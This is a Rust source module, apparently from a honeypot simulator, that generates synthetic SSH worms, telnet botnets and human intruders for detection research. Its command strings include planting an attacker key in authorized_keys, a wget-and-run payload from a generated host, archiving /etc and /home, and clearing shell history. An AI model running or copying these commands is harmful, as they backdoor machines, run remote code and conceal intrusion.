//! What groups own: keys, files, hosts and habits, by which their members can be told from others.

use super::super::addresses::server;
use super::super::artefacts::{Payload, PublicKey};
use super::super::clients::Software;
use super::super::dice::Dice;
use super::super::words::{Credential, shared_list};

/// What a command of a worm leaves behind.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(in super::super) enum Leaves {
    Nothing,
    /// A complaint: the honeypot does not know this part of it.
    Complaint(String),
    /// The key.
    Key,
    /// The payload.
    Payload,
}

/// A worm: one program on many machines.
#[derive(Debug)]
pub(in super::super) struct Worm {
    /// The `authorized_keys` file that it leaves.
    pub(in super::super) keys_file: Payload,
    pub(in super::super) payload: Payload,
    /// What it runs, each command in a channel of its own.
    pub(in super::super) commands: Vec<(String, Leaves)>,
    /// Its wordlist.
    pub(in super::super) list: u64,
}

/// A relay campaign: one mail server, abused through many machines.
#[derive(Debug)]
pub(in super::super) struct Relay {
    pub(in super::super) host: String,
}

/// A botnet that spreads over telnet.
#[derive(Debug)]
pub(in super::super) struct Botnet {
    pub(in super::super) loader: Payload,
    /// One for each architecture, with the honeypot's name for that.
    pub(in super::super) binaries: Vec<(&'static str, Payload)>,
}

/// A person.
#[derive(Debug)]
pub(in super::super) struct Operator {
    /// The key that this person's client offers first, if any.
    pub(in super::super) key: Option<PublicKey>,
    /// Columns and rows of the terminal.
    pub(in super::super) size: (u32, u32),
    pub(in super::super) language: &'static str,
    pub(in super::super) login: Credential,
    pub(in super::super) commands: Vec<String>,
    pub(in super::super) tool: Payload,
    /// Places of the clients in use; the second from the third address on.
    pub(in super::super) clients: [usize; 2],
}

/// A service that tests tunnels.
#[derive(Debug)]
pub(in super::super) struct ProbeTool {
    pub(in super::super) host: &'static str,
    pub(in super::super) path: &'static str,
    pub(in super::super) ja4: String,
    pub(in super::super) ja4h: String,
    /// The bytes of its TLS ClientHello.
    pub(in super::super) hello: Vec<u8>,
}

impl Worm {
    pub(super) fn new(dice: &mut Dice) -> Self {
        let word = dice.text("bcdfghjklmnprstvz", 6);
        let key = PublicKey::new(dice, "ssh-rsa", &word);
        let host = server(dice.bits());
        let url = format!("http://{host}/{}/{word}.tgz", dice.hex(4));
        let payload = Payload::at(dice, url);
        let plain = |text: &str| (text.to_owned(), Leaves::Nothing);
        let unknown = format!("{word}ctl stop");
        let planting = format!(
            "cd ~ && mkdir -p .ssh && echo \"{}\" > .ssh/authorized_keys && chmod 700 .ssh && cd ~",
            key.line
        );
        let loading = format!(
            "cd /var/tmp && wget -q {} && tar xf {} && cd .{word} && sh init",
            payload.url, payload.name
        );
        let commands = vec![
            plain("uname -s -v -n -r -m"),
            plain("nproc; grep -m1 'model name' /proc/cpuinfo"),
            plain("free -m | awk 'NR==2{print $2,$3,$4}'"),
            (format!("cd ~; chattr -ia .ssh; {unknown}"), Leaves::Complaint(unknown)),
            (planting, Leaves::Key),
            plain("crontab -l"),
            plain("w"),
            plain("ls -lh $(which ls)"),
            plain("cat /proc/uptime"),
            plain("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"),
            (loading, Leaves::Payload),
            plain("rm -rf /var/tmp/*.tgz; history -c"),
        ];
        let keys_file = Payload::echoed(".ssh/authorized_keys", &key.line);
        Self { keys_file, payload, commands, list: shared_list(dice.bits(), 0) }
    }
}

impl Relay {
    pub(super) fn new(dice: &mut Dice) -> Self {
        Self { host: server(dice.bits()).to_string() }
    }
}

impl Botnet {
    pub(super) fn new(dice: &mut Dice) -> Self {
        let host = server(dice.bits());
        let word = dice.text("aeioklmnrstuvxyz", 5);
        let loader = Payload::at(dice, format!("http://{host}/{word}.sh"));
        let binaries =
            [("linux-mips-lsb", "mpsl"), ("linux-arm-lsb", "arm7"), ("linux-x64-lsb", "x86")];
        let binaries = binaries.map(|(arch, suffix)| {
            (arch, Payload::at(dice, format!("http://{host}/bins/{word}.{suffix}")))
        });
        Self { loader, binaries: binaries.to_vec() }
    }
}

/// How a person begins.
const OPENING: [&str; 4] =
    ["unset HISTFILE", "mkdir -p /dev/shm/{home}", "cd /dev/shm/{home}", "chmod +x {tool}"];

/// What people type then; `{home}` is a directory of their own, `{tool}` a file that they bring.
const TYPED: &[&str] = &[
    "w",
    "id",
    "uname -a",
    "ls -la",
    "cat /etc/passwd | grep -v nologin",
    "last | head",
    "ps aux | less",
    "netstat -tulpn",
    "ip a",
    "cat ~/.bash_history",
    "ls /home",
    "./{tool} -h",
    "./{tool} -d 198.18.0.0/16",
    "nohup ./{tool} -c {home}.conf &",
    "sl",
    "cat /etc/sshd_config",
    "cat /etc/ssh/sshd_config",
    "crontab -e",
    "find / -name '*.{home}' 2>/dev/null",
    "tar czf /tmp/{home}.tgz /etc /home",
    "which python3 perl gcc",
    "python3 -c 'import os; print(os.cpu_count())'",
    "history -c",
    "df -h",
    "curl -s ifconfig.example",
    "systemctl status {home}",
];

impl Operator {
    /// The person of this number in the chapter. Every third has no key and is known by habits and
    /// tools alone; every third changes client halfway.
    pub(super) fn new(dice: &mut Dice, number: u32) -> Self {
        let home = dice.text("abcdefghiklmnoprstuvwy", 7);
        let name = format!("{}{}", dice.pick(&["scan", "x", "tun", "mass", "pwn"]), dice.hex(2));
        let tool = Payload::uploaded(dice, &name);
        let mut commands = OPENING.to_vec();
        while commands.len() < 13 {
            let next = dice.pick(TYPED);
            if !commands.contains(&next) {
                commands.push(next);
            }
        }
        let typed = |text: &str| text.replace("{home}", &home).replace("{tool}", &tool.name);
        let commands = commands.into_iter().map(typed).collect();
        let comment = format!("{home}@{}", dice.pick(&["laptop", "kali", "vps", "desktop"]));
        let key = (number % 3 != 2).then(|| PublicKey::new(dice, "ssh-ed25519", &comment));
        let first = Software::Terminal(number % 3).place();
        let second = if number % 3 == 1 { Software::Terminal(3).place() } else { first };
        Self {
            key,
            size: (dice.below(140) + 90, dice.below(40) + 25),
            language: dice.pick(&[
                "en_US.UTF-8",
                "ro_RO.UTF-8",
                "pt_BR.UTF-8",
                "zh_CN.UTF-8",
                "C.UTF-8",
            ]),
            login: Credential::own(dice.bits(), dice),
            commands,
            tool,
            clients: [first, second],
        }
    }
}

impl ProbeTool {
    pub(super) fn new(dice: &mut Dice, number: u32) -> Self {
        let (host, path) = match number % 3 {
            0 => ("www.example.com", "/"),
            1 => ("ip.example.net", "/json/"),
            _ => ("check.example.org", "/generate_204"),
        };
        let mut hello = vec![0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
        hello.extend(dice.bytes(48));
        hello.extend(host.bytes());
        let (ciphers, extensions) = (dice.between(9, 40), dice.between(8, 16));
        let ja4 = format!("t13d{ciphers:02}{extensions:02}h2_{}_{}", dice.hex(12), dice.hex(12));
        let ja4h =
            format!("ge11nn{:02}0000_{}_{:012}_{:012}", dice.between(1, 5), dice.hex(12), 0, 0);
        Self { host, path, ja4, ja4h, hello }
    }
}
